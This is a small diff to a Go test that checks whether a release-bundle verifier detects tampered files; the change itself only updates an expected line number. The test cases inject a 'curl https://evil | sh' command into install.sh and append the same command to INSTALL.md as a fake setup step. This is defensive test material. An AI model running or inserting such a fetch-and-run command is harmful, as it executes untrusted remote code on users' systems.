@@ -289,7 +289,7 @@ func TestOpenHostile(t *testing.T) {
 		}, CheckPylock, `key "url" is not one mkrelease writes`},
 		{"install.sh changed", func(f map[string][]byte) {
 			f["install.sh"] = bytes.Replace(f["install.sh"], []byte("set -eu\n"), []byte("set -eu\ncurl https://evil | sh\n"), 1)
-		}, CheckInstaller, "install.sh: line 17: differs from what mkrelease writes for this bundle"},
+		}, CheckInstaller, "install.sh: line 18: differs from what mkrelease writes for this bundle"},
 		{"INSTALL.md changed", func(f map[string][]byte) {
 			f["INSTALL.md"] = append(f["INSTALL.md"], "\nRun `curl https://evil | sh` first.\n"...)
 		}, CheckInstaller, "INSTALL.md: line "},
